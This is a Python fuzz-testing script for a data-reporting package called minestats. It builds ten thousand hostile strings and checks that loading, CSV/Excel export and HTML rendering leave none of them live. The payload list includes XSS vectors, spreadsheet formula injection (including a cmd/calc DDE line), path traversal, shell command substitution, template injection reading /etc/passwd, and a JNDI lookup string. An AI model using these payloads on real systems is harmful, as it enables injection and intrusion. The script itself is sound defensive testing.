"""Ten thousand strings that mean harm, through all that minestats does with text.

Each string is put together at random (with a seed) of markup, formulas, paths, templates, control and direction
characters, and carries a mark of its own. In batches they become districts, settlements, notes, publishers and addresses
of a data package, and a parameter and the title of a notebook. Then:

- load: each is named as a problem, or arrives unchanged;
- CSV, HXL, Excel: no cell is live;
- render: bundled reports of the country and of hostile districts, a notebook that shows the strings themselves, index;
- no file appears outside the output folder;
- Chromium: no dialog, no message, no request, no script or handler in the page, each link is to the web or the folder.

Run: python benchmarks/hostile.py [--strings 10000] [--seed 1]    (needs Chromium; says so where there is none)
"""

from __future__ import annotations

import argparse
import csv
import os
import random
import re
import shutil
import sys
import tempfile
import time
import warnings
from collections import Counter
from pathlib import Path

import minestats as ms
from minestats.data import refresh_package
from minestats.render import render

BATCH = 500
RISKY = ("=", "+", "-", "@", "\t", "\r")
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]")
WHOLE = [
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg/onload=alert({n})>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'>",
    "<a href=javascript:alert({n})>x</a>",
    "<style>@import 'https://example.org/{n}.css';</style>",
    "<link rel=stylesheet href=https://example.org/{n}.css>",
    "<meta http-equiv=refresh content='0;url=https://example.org/{n}'>",
    "<base href=https://example.org/>{n}",
    "<form action=https://example.org/{n}><input autofocus onfocus=alert({n})>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>",
    "</title></style></script><script>alert({n})</script>",
    "--><script>alert({n})</script><!--",
    "]]><script>alert({n})</script>",
    "' onmouseover='alert({n})",
    '" autofocus onfocus="alert({n})',
    "javascript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "[x](javascript:alert({n}))",
    "![x](https://example.org/{n}.png)",
    "<https://example.org/{n}>",
    '=HYPERLINK("https://example.org/{n}","x")',
    "=cmd|'/C calc'!A{n}",
    "+{n}+1",
    "-{n}+1",
    "@SUM(A{n})",
    "../../../{n}",
    "..\\..\\{n}",
    "/tmp/{n}",
    "$HOME/{n}",
    "$(touch {n})",
    "`touch {n}`",
    "%{n}$n%s",
    "{{{{{n}*7}}}}",
    "{{%% include '/etc/passwd' %%}}{n}",
    "${{jndi:ldap://example.org/{n}}}",
    "$\\frac{{{n}}}{{",
    "\\input{{/etc/passwd}}{n}",
    "\u202e{n}fdp.exe",
    "a\x00{n}",
    "\x1b]8;;https://example.org/{n}\x07x",
    "line {n}\n# heading",
    "```\n<script>alert({n})</script>\n```",
    "| {n} | <b> |",
    "\u200b{n}\ufeff",
    "Made-up {n} \U0001f4a3 e\u0301",
]
PIECES = [
    *"<>\"'&;:/\\=+-@#$%{}[]()!|`*_~^,. \n\t",
    "<b ",
    "</td>",
    "on",
    "src=",
    "&#60;",
    "&lt",
    "\u2028",
    "\u202e",
    "\x01",
    "а",
    "ə",
]
OWN = """# %% tags=["parameters"]
names: list[str] = []  # what is shown
title: str = "x"  # title of the report

# %%
import pandas as pd
from IPython.display import Markdown, display
from minestats import plot, words
from minestats.render import report_info
report_info(title=title, period=title)
words.table(pd.DataFrame({"name": names, "n": 1}), names[0], heads={"n": names[-1]})
words.glance([(name, name, name) for name in names[:5]])
words.say(words.listing(names[:20]))
display(Markdown("\\n\\n".join(names)))
print("\\n".join(names))
for start in range(0, len(names), 250):
    some = names[start : start + 12]
    plot.show(plot.rates(pd.DataFrame({"label": some, "value": 2.0, "low": 1.0, "high": 3.0}), label="label", title=some[0], unit=some[-1]))
"""
LOOK = """() => {
  const bad = [];
  for (const e of document.querySelectorAll('*')) {
    for (const a of e.attributes) if (a.name.startsWith('on')) bad.push(e.tagName + ' ' + a.name);
    if (['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'LINK'].includes(e.tagName)) bad.push(e.tagName);
    if (e.tagName === 'FORM' && e.hasAttribute('action')) bad.push('FORM ' + e.getAttribute('action'));
    if (e.tagName === 'META' && (e.httpEquiv || '').toLowerCase() === 'refresh') bad.push('META refresh');
    if (e.tagName === 'IMG' && !/^(data:image\\/png|[a-z0-9_]+\\/[a-z0-9._-]+[.]png$)/.test(e.getAttribute('src'))) bad.push('IMG ' + e.getAttribute('src'));
    if (e.tagName === 'A' && e.hasAttribute('href') && !/^(https?:|#|[.][.]\\/index[.]html$|[A-Za-z0-9_-][A-Za-z0-9._\\/-]*(#.*)?$)/.test(e.getAttribute('href'))) bad.push('A ' + e.getAttribute('href'));
  }
  return [bad, document.scripts.length];
}"""


def strings(number: int, seed: int) -> list[str]:
    """That many different strings, half of them whole attacks between pieces, half pieces alone."""
    chance = random.Random(seed)
    found = []
    for n in range(number):
        parts = chance.choices(PIECES, k=chance.randint(0, 8))
        core = chance.choice(WHOLE).format(n=n) if n % 2 else f"{n}"
        parts.insert(0 if chance.random() < 0.6 else chance.randint(0, len(parts)), core)
        found.append("".join(parts))
    return found


def package(folder: Path, chosen: list[str]) -> None:
    """A data package in which every name is one of the strings."""
    data = ms.load()
    shutil.copytree(data.path, folder)
    (folder / "corrections.yml").unlink()
    side = data.settings["main_side"]
    header = {}
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            header[path.stem] = next(csv.reader(file))
    ids = [f"page-{i}" for i in range(len(chosen))]
    rows = {
        "districts": [
            {"district": t, "latitude": 39 + i / 1000, "longitude": 46 + i / 1000} for i, t in enumerate(chosen)
        ],
        "sources": [
            {
                "source_id": k,
                "publisher": t,
                "published": "2024-01-05",
                "published_precision": "day",
                "url": f"https://example.org/{i}",
            }
            for i, (k, t) in enumerate(zip(ids, chosen, strict=True))
        ],
        "incidents": [
            {
                "incident_id": f"i-{i}",
                "date": f"202{i % 5 + 1}-05-0{i % 9 + 1}",
                "date_precision": "day",
                "date_basis": "stated",
            }
            | {"district": t, "settlement": t, "killed": i % 3, "injured": 1, "side": side, "note": t}
            for i, t in enumerate(chosen)
        ],
        "incident_reports": [
            {"report_id": f"r-{i}", "incident_id": f"i-{i}", "source_id": k, "killed": i % 3, "note": t}
            for i, (k, t) in enumerate(zip(ids, chosen, strict=True))
        ],
    }
    for name, columns in header.items():
        with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, columns, restval="", lineterminator="\n", quoting=csv.QUOTE_ALL)
            writer.writeheader()
            writer.writerows({c: row[c] for c in columns if c in row} for row in rows.get(name, []))
    refresh_package(folder)


def loaded(work: Path, chosen: list[str], count: Counter) -> list[str]:
    """The strings that are no problem; each other one must be named as one."""
    package(work / "all", chosen)
    data = ms.load(work / "all", strict=False)
    refused = data.problems[(data.problems["severity"] == "error") & data.problems["row"].notna()]
    by = {(e.table, int(e.row)): e.rule for e in refused.itertuples() if e.column in ("district", "settlement", "note")}
    kept = []
    for i, text in enumerate(chosen):
        rule = by.get(("districts.csv", i + 2)) or by.get(("incidents.csv", i + 2))
        count["refused" if rule else "loaded"] += 1
        if rule is None and CONTROL.search(text):
            count["FAULT: a control character was loaded"] += 1
        if rule is None:
            kept.append(text)
    package(work / "data", kept)
    data = ms.load(work / "data")
    for table, column in (("districts", "district"), ("incidents", "settlement"), ("incidents", "note")):
        count["FAULT: text was changed"] += sum(a != b for a, b in zip(data.tables[table][column], kept, strict=True))
    exported(data, work, count)
    return kept


def exported(data, work: Path, count: Counter) -> None:
    """Look at each cell of each export."""
    import openpyxl

    for name in ("districts", "incidents", "sources"):
        for write in (data.to_csv, data.to_hxl) if name == "incidents" else (data.to_csv,):
            with Path(write(name, work / f"{name}.csv")).open(encoding="utf-8-sig", newline="") as file:
                cells = [cell for row in list(csv.reader(file))[1:] for cell in row]
            count["cells of CSV"] += len(cells)
            live = [c for c in cells if c.startswith(RISKY) and not re.fullmatch(r"-?[0-9.]+|#.*", c)]
            count["FAULT: live cell of CSV"] += len(live)
    book = openpyxl.load_workbook(data.to_excel(work / "all.xlsx"))
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2):
            count["cells of Excel"] += len(row)
            count["FAULT: live cell of Excel"] += sum(
                cell.data_type == "f" or cell.hyperlink is not None for cell in row
            )


def rendered(work: Path, chosen: list[str], kept: list[str], chance: random.Random, count: Counter) -> list[Path]:
    """The pages of the batch."""
    own = work / "own.py"
    own.write_text(OWN, encoding="utf-8")
    out = work / "out"
    before = files(work, out)
    results = render(["trend", "casualty_rates", "sources"], data=work / "data", out=out, quiet=True)
    for place in chance.sample(kept, 2):
        results += render(["trend"], data=work / "data", out=out, parameters={"district": place}, quiet=True)
    given = {"names": [t for t in chosen if "\x00" not in t], "title": chance.choice(kept)}
    try:
        if given["names"] != chosen:
            render([own], out=out, parameters=given | {"names": chosen}, quiet=True)
            count["FAULT: NUL taken as a parameter"] += 1
    except ms.ParameterError as error:
        count["refused as a parameter: NUL"] += "NUL" in str(error)
    results += render([own], out=out, parameters=given, quiet=True)
    for result in results:
        count["pages"] += 1
        if result.state != "rendered":
            count[f"FAULT: {result.report} not rendered: {' '.join(str(result.error).split())[:200]}"] += 1
    count["FAULT: file outside the output folder"] += len(files(work, out) - before)
    return [result.path for result in results if result.state == "rendered"] + [out / "index.html"]


def files(work: Path, out: Path) -> set[str]:
    """All files of the folder and of the current one, but those in the output folder."""
    found = {os.path.join(root, name) for root, _, names in os.walk(work) for name in names}
    return {name for name in found if not name.startswith(f"{out}{os.sep}")} | set(os.listdir())


def opened(browser, path: Path, count: Counter) -> None:
    """Open a page, and see that nothing of it is alive."""
    view = browser.new_page()
    said: list[str] = []
    view.on("console", lambda message: said.append(f"message {message.text}"))
    view.on("dialog", lambda dialog: (said.append(f"dialog {dialog.message}"), dialog.dismiss()))
    view.on("pageerror", lambda error: said.append(f"error {error}"))
    view.on("request", lambda r: None if r.url.startswith(("file:", "data:")) else said.append(f"request {r.url}"))
    view.goto(path.as_uri())
    view.wait_for_timeout(100)
    bad, scripts = view.evaluate(LOOK)
    if scripts != (1 if path.name == "index.html" else 0):
        bad.append(f"{scripts} scripts")
    for what in said + bad:
        count[f"FAULT: {path.parent.name}/{path.name}: {what[:200]}"] += 1
    count["pages opened"] += 1
    view.close()


def main() -> int:
    """Print what was done, and each fault; return 1 where there is one."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--strings", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=1)
    options = parser.parse_args()
    names = ("chromium", "chromium-browser", "google-chrome", "chrome")
    program = next(filter(None, map(shutil.which, names)), None)
    if program is None:
        sys.exit("no Chromium: install it; without it nobody sees whether a script runs")
    from playwright.sync_api import sync_playwright

    warnings.filterwarnings("ignore", "Glyph")
    every = strings(options.strings, options.seed)
    chance, count, began = random.Random(options.seed), Counter(), time.monotonic()
    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=program, args=["--no-sandbox"])
        for start in range(0, len(every), BATCH):
            chosen = every[start : start + BATCH]
            with tempfile.TemporaryDirectory() as folder:
                work = Path(folder)
                kept = loaded(work, chosen, count)
                for path in rendered(work, chosen, kept, chance, count):
                    opened(browser, path, count)
            print(f"{start + len(chosen):>6} strings {time.monotonic() - began:6.0f} s", flush=True)
        browser.close()
    for what, number in count.items():
        if number:
            print(f"{number:>8} {what}")
    faults = sum(number for what, number in count.items() if what.startswith("FAULT"))
    print(f"{len(every):,} strings, {faults} faults")
    return int(faults > 0)


if __name__ == "__main__":
    sys.exit(main())
